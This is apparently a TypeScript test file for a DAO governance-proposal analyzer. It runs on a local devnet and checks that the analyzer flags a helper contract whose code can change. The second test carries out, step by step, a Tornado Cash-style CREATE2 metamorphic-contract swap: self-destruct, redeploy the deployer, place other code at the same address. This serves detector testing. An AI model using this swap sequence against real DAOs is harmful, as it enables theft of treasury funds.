/**
 * `argus proposal` on the GovernorBravo-shaped DAO of a shanghai (pre-Cancun) devnet, and the CREATE2
 * redeploy of Tornado Cash's proposal 20 done for real: a helper placed by CREATE from a deployer placed by
 * CREATE2 is removed with its deployer after the proposal is made, and other code is placed at the same
 * address. The simulation made while the vote is open says so before it happens.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeAbiParameters, encodeDeployData, encodeFunctionData, parseAbi, parseEther, type Abi, type Address, type Hex } from 'viem';
import { rpc } from '../src/chain/rpc/json-rpc.js';
import { analyzeProposal } from '../src/governance/index.js';
import { artifact, deployLocal } from '../src/governance/devnet.js';
import { sendLocal } from '../src/governance/tx.js';
import { proposeOnDevnet, startGovLab, type GovLab } from '../eval/governance-run.js';
import type { GovScenario } from '../eval/governance-scenarios.js';

const abi = parseAbi([
  'function deploy(bytes32,bytes) returns (address)', 'function deploy(bytes) returns (address)', 'function destroy()', 'function emergencyStop()',
  'function approve(address,uint256)', 'function migrate(address,address,address,uint256)', 'function setReserveFactor(uint256)',
]);
const initcode = async (name: string): Promise<Hex> => {
  const a = await artifact(name);
  return encodeDeployData({ abi: a.abi as Abi, bytecode: a.bytecode } as Parameters<typeof encodeDeployData>[0]);
};

/** Sends `data` from `from` to `to` and returns the address the call returns (what it created). */
async function create(url: string, from: Address, to: Address, data: Hex): Promise<Address> {
  const out = await rpc<Hex>(url, 'eth_call', [{ from, to, data }, 'latest']);
  await sendLocal(url, { from, to, data });
  return `0x${out.slice(26, 66)}` as Address;
}

describe('argus proposal on the Bravo DAO (shanghai)', () => {
  let lab: GovLab;
  beforeAll(async () => {
    lab = await startGovLab('bravo');
  }, 240_000);
  afterAll(async () => {
    await lab?.stop();
  });

  it('runs a Bravo proposal with a function signature through vote, queue, timelock and execute', async () => {
    const scenario: GovScenario = { name: 'rf', malicious: false, build: async (c) => ({ targets: [c.dao.pool], values: [0n], signatures: ['setReserveFactor(uint256)'], calldatas: [encodeAbiParameters([{ type: 'uint256' }], [1200n])], description: 'reserve factor 12%' }) };
    const proposalId = await proposeOnDevnet(lab, scenario);
    const report = await analyzeProposal({ rpcUrl: lab.ctx.url, governor: lab.ctx.dao.governor, proposalId, fork: lab.fork });
    expect(report.governorKind).toBe('bravo');
    expect(report.preCancun).toBe(true);
    expect(report.executedOnFork).toBe(true);
    expect(report.calls[0]).toMatchObject({ function: 'setReserveFactor', args: ['1200'] });
    expect(report.events.some((e) => e.name === 'ExecuteTransaction')).toBe(true);
    expect(report.storageChanges.some((s) => s.address === lab.ctx.dao.pool && BigInt(s.after) === 1200n)).toBe(true);
    expect(report.verdict).toBe('info');
    expect(report.proposerHistory?.proposer.toLowerCase()).toBe(lab.ctx.dao.voters[0]?.toLowerCase());
  }, 180_000);

  it('says a helper placed through a CREATE2 deployer can be swapped, and the swap really happens at the same address', async () => {
    const { url, attacker, dao } = lab.ctx;
    await rpc(url, 'hardhat_mine', ['0x40']); // the proposer's earlier vote is over (one live proposal each)
    const factory = await deployLocal(url, attacker, 'Create2Factory');
    const salt = `0x${'ab'.repeat(32)}` as Hex;
    const deployData = encodeFunctionData({ abi, functionName: 'deploy', args: [salt, await initcode('ProposalDeployer')] });
    const deployer = await create(url, attacker, factory, deployData);
    const helper = await create(url, attacker, deployer, encodeFunctionData({ abi, functionName: 'deploy', args: [await initcode('MigrationHelper')] }));
    const vault = await deployLocal(url, lab.ctx.team, 'BravoVault', [dao.timelock]);
    const amount = parseEther('2000000');
    const scenario: GovScenario = { name: 'tornado', malicious: true, build: async () => ({ targets: [dao.stable, helper], values: [0n, 0n], calldatas: [encodeFunctionData({ abi, functionName: 'approve', args: [helper, amount] }), encodeFunctionData({ abi, functionName: 'migrate', args: [dao.stable, dao.timelock, vault, amount] })], description: 'Move 2M BUSD into the vault' }) };
    const proposalId = await proposeOnDevnet(lab, scenario);
    const report = await analyzeProposal({ rpcUrl: url, governor: dao.governor, proposalId, fork: lab.fork });
    expect(report.stateAtStart).toBe('Pending');
    const finding = report.findings.find((f) => f.detector === 'governance/code-can-change' && f.severity === 'critical');
    expect((finding?.subject as { address: string } | undefined)?.address.toLowerCase()).toBe(helper.toLowerCase());
    expect(report.codeCanChange.find((c) => c.address.toLowerCase() === helper.toLowerCase())?.path.join(' ')).toMatch(/CREATE from .* CREATE2/);

    // The attack itself, while the vote is open: remove both, place the deployer again, then other code.
    const before = await rpc<Hex>(url, 'eth_getCode', [helper, 'latest']);
    await sendLocal(url, { from: attacker, to: helper, data: encodeFunctionData({ abi, functionName: 'emergencyStop' }) });
    await sendLocal(url, { from: attacker, to: deployer, data: encodeFunctionData({ abi, functionName: 'destroy' }) });
    expect(await rpc<Hex>(url, 'eth_getCode', [helper, 'latest'])).toBe('0x');
    expect(await create(url, attacker, factory, deployData)).toBe(deployer);
    const again = await create(url, attacker, deployer, encodeFunctionData({ abi, functionName: 'deploy', args: [await initcode('MigrationHelperSwapped')] }));
    expect(again.toLowerCase()).toBe(helper.toLowerCase());
    const after = await rpc<Hex>(url, 'eth_getCode', [helper, 'latest']);
    expect(after).not.toBe('0x');
    expect(after).not.toBe(before);
  }, 240_000);
});
